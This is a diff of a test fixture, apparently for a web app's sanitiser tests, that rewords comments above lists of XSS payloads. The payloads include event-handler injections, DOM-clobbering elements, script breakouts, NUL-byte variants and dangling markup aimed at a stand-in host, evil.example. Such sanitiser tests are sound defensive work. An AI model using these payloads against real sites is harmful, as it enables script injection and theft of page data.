@@ -1,6 +1,6 @@
 /**
- * Texts that have passed scripts through sanitisers (quality.md «Security» 13). Each would set
- * `window.pwned`, open a dialog or contact another host if it ran.
+ * Texts that have passed scripts through sanitisers (quality.md «Security» 13). If one ran, it would set
+ * `window.pwned`, open a dialog or contact another host.
  */
 
 const go = 'window.pwned=1';
@@ -118,11 +118,11 @@ export const attacks: readonly string[] = [
   // Names that replace the page's own globals.
   `<a id="__reactRouterContext"></a><form id="document"><input name="cookie"></form>`,
   `<img name="currentScript" src="x">`,
-  // Headings, whose texts become anchors and a table of contents.
+  // Headings: their texts become anchors and a table of contents.
   `<h2>"><img src=x onerror=${go}></h2>`,
   `<h2 id='"><img src=x onerror=${go}>'>x</h2>`,
   `<h2>&lt;img src=x onerror=${go}&gt;</h2>`,
-  // Elements and events newer than most lists of them.
+  // Elements and events that most lists of them do not contain yet.
   `<xss id=x tabindex=1 onfocus="${go}"></xss>`,
   `<xss onpointerrawupdate="${go}" style="display:block">x</xss>`,
   `<div popover id=p onbeforetoggle="${go}">x</div><button popovertarget=p>x</button>`,
@@ -179,21 +179,21 @@ export const attacks: readonly string[] = [
   `</script><script>${go}</script>`,
   `\u2028\u2029</script><!--<script>${go}//-->`,
   `{"__proto__":{"pwned":1}}<!--`,
-  // Unclosed markup that swallows what follows: so it comes last.
+  // Last, because unclosed markup swallows what follows.
   `<img src='https://evil.example/?`,
   `'><textarea><plaintext>`,
   `<base target='`,
   `<a href="https://evil.example/`,
 ];
 
-/** PostgreSQL does not accept NUL: these are refused, and rendered harmlessly. */
+/** Texts with NUL, which PostgreSQL does not accept: they are rejected, and rendering them is harmless. */
 export const attacksWithNul: readonly string[] = [
   `<scr\u0000ipt>${go}</scr\u0000ipt>`,
   `<img src=x one\u0000rror="${go}" \u0000onerror="${go}">`,
   `<a href="java\u0000script:${go}">x</a>`,
 ];
 
-/** Titles, names and descriptions, which are plain text: they are shown unchanged. */
+/** Titles, names and descriptions: they are plain text and shown unchanged. */
 export const attackingTexts: readonly string[] = [
   `</script><script>${go}</script>`,
   `<!--<script>${go}//`,
